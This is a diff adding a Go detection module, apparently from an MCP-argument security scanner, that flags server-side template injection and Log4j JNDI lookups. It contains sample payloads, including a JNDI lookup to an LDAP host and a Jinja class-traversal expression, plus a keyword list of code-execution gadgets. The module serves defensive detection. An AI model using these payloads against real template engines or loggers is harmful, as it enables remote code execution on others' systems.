@@ -1,0 +1,177 @@
+package detect
+
+import (
+	"strings"
+
+	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
+)
+
+// template_injection: a value holds an expression of a template language that
+// computes something, reaches into objects or runs code, where a template
+// engine or a logger may come across it. Seen since 2015 (server-side template
+// injection) and in Log4j (CVE-2021-44228). Placeholders as such are ordinary:
+// {{name}} and ${HOME} say nothing.
+
+var (
+	templateInjection = &finding.Rule{
+		ID: "template_injection", Class: "command_injection", Severity: finding.High,
+		Title:     "an argument holds an expression for a template engine",
+		Catches:   "Expressions of Jinja, Twig, Freemarker, Velocity, Spring, ERB, PHP and their kind that compute, reach into objects or call something; server-side includes.",
+		Example:   `{"name":"{{''.__class__.__mro__[1].__subclasses__()}}"}`,
+		Misses:    "Expressions that only name a variable.",
+		Exception: "Templates, code and text for people are not looked at.",
+	}
+	jndiLookup = &finding.Rule{
+		ID: "jndi_lookup", Class: "command_injection", Severity: finding.Critical,
+		Title:     "an argument has a logger load code",
+		Catches:   "Lookups that Log4j before 2.17 resolves (${jndi:ldap://...}, CVE-2021-44228), also in pieces (${${lower:j}ndi:...}) and encoded.",
+		Example:   `{"user_agent":"${jndi:ldap://203.0.113.9/a}"}`,
+		Misses:    "Lookups that only read a variable (${env:HOME}).",
+		Exception: "Text for people and code may speak of them.",
+	}
+)
+
+func detectTemplateInjection(a *Argument) {
+	use := a.Use()
+	if a.Key || use == written || use == runCode || a.under(templateFields) {
+		return
+	}
+	text := a.Text()
+	if a.Has&Dollar != 0 && jndi(text) {
+		a.Report(finding.Finding{Rule: jndiLookup, Severity: finding.Critical, Why: "it is a lookup with which a logger loads code from elsewhere", Seen: finding.Mask(text)})
+		return
+	}
+	if use == runShell {
+		return
+	}
+	if why := expression(text); why != "" {
+		a.Report(finding.Finding{Rule: templateInjection, Severity: finding.High, Why: why, Seen: finding.Mask(text)})
+	}
+}
+
+// templateFields hold templates, or patterns that look like them.
+var templateFields = named(true, `template templates format pattern regex regexp glob prompt expression formula mask placeholder jsonpath jq xpath workflow`)
+
+// jndi reports whether a text has a lookup that loads code.
+func jndi(text string) bool {
+	i := strings.Index(text, "${")
+	if i < 0 {
+		return false
+	}
+	low := strings.ToLower(text[i:min(len(text), i+512)])
+	if strings.Contains(low, "${jndi:") {
+		return true
+	}
+	// in pieces: what is left of it when the lookups inside are resolved
+	for range 8 {
+		j := strings.IndexByte(low, '}')
+		if j < 0 {
+			break
+		}
+		k := strings.LastIndex(low[:j], "${")
+		if k < 0 {
+			break
+		}
+		inner := low[k+2 : j]
+		if l := strings.LastIndexAny(inner, ":-"); l >= 0 {
+			inner = inner[l+1:]
+		}
+		low = low[:k] + inner + low[j+1:]
+		if strings.Contains(low, "${jndi:") {
+			return true
+		}
+	}
+	return strings.Contains(low, "${jn") && strings.Contains(low, "ldap") || strings.Contains(low, "jndi:ldap") || strings.Contains(low, "jndi:rmi") || strings.Contains(low, "jndi:dns")
+}
+
+// brackets open and close the expressions of template languages.
+var brackets = [...]struct {
+	open, close string
+	always      bool // nothing but code stands in them
+}{
+	{"{{", "}}", false}, {"${", "}", false}, {"#{", "}", false}, {"*{", "}", false}, {"<%", "%>", true}, {"{%", "%}", true}, {"<?php", "?>", true}, {"<?=", "?>", true},
+	{"<#", ">", true}, {"[[${", "}]]", false}, {"@(", ")", false}, {"<!--#", "-->", true}, {"{{=", "}}", false}, {"~{", "}", false},
+}
+
+// maxExpressions bounds how many are looked at, maxExpression how long one is.
+const maxExpressions, maxExpression = 64, 1024
+
+// expression says what is wrong with the first expression in a text that
+// does more than name a variable.
+func expression(text string) string {
+	looked := 0
+	for i := 0; i < len(text) && looked < maxExpressions; i++ {
+		if bytesOf[text[i]]&(Curly|Dollar|Hash|Star|Angle|Square|At|Tilde) == 0 {
+			continue
+		}
+		for _, b := range brackets {
+			if !strings.HasPrefix(text[i:], b.open) {
+				continue
+			}
+			looked++
+			rest := text[i+len(b.open) : min(len(text), i+len(b.open)+maxExpression)]
+			end := strings.Index(rest, b.close)
+			if end < 0 && !b.always {
+				continue
+			}
+			if end >= 0 {
+				rest = rest[:end]
+			}
+			if why := computes(rest, b.always, b.open); why != "" {
+				return why
+			}
+		}
+	}
+	return ""
+}
+
+// computes says what an expression does beyond naming a variable.
+func computes(e string, always bool, open string) string {
+	low := strings.ToLower(strings.TrimSpace(e))
+	for _, w := range reaching {
+		if strings.Contains(low, w) {
+			return "it holds an expression that reaches into the program of a template engine"
+		}
+	}
+	switch {
+	case always && open == "<!--#" && (strings.HasPrefix(low, "exec") || strings.HasPrefix(low, "include") || strings.HasPrefix(low, "printenv")),
+		always && open == "<#" && (strings.HasPrefix(low, "assign") || strings.HasPrefix(low, "list") || strings.HasPrefix(low, "import") || strings.HasPrefix(low, "include")),
+		always && (open == "<%" || open == "<?=") && low != "", always && open == "<?php", always && open == "{%" && low != "":
+		return "it holds code for a template engine"
+	case arithmetic(low):
+		return "it holds an expression that a template engine would compute"
+	case open != "@(" && open != "${" && calls(low), (open == "${" || open == "@(") && calls(low) && strings.ContainsAny(low, `'"@`):
+		return "it holds an expression that calls a function of a template engine"
+	}
+	return ""
+}
+
+// reaching are what expressions reach for and templates do not.
+var reaching = strings.Fields(`__class__ __mro__ __subclasses__ __globals__ __builtins__ __import__ __init__ __base__ _self.env registerundefinedfilter self._ config.items lipsum cycler. joiner. namespace.
+	getclass() .class.forname java.lang t(java. runtime.getruntime processbuilder freemarker.template ?new() ?api constructor.constructor process.mainmodule require(' child_process
+	file.open(' io.popen kernel.exec @ognl #_memberaccess #context[ #rt= @java. get_flashed url_for. request.application request['application'] request.environ popen( system( passthru( exec(
+	|filter('system |map('system ['map']( |attr(" |attr(' $smarty {php} fetchall system.diagnostics getruntime scope.constructor range.constructor settings.secret config.secret_key app.request dump(app ._tornado handler.settings`)
+
+// arithmetic reports whether an expression is nothing but a sum to see whether
+// somebody computes it.
+func arithmetic(e string) bool {
+	digits, operators := 0, 0
+	for i := 0; i < len(e); i++ {
+		switch c := e[i]; {
+		case c >= '0' && c <= '9':
+			digits++
+		case c == '*' || c == '+' || c == '/' || c == '-' && i > 0:
+			operators++
+		case c == ' ' || c == '\'' || c == '"' || c == '(' || c == ')' || c == '.':
+		default:
+			return false
+		}
+	}
+	return digits >= 2 && operators >= 1
+}
+
+// calls reports whether an expression calls something with arguments.
+func calls(e string) bool {
+	i := strings.IndexByte(e, '(')
+	return i > 0 && letter(e[i-1]) && strings.IndexByte(e[i:], ')') > 0
+}
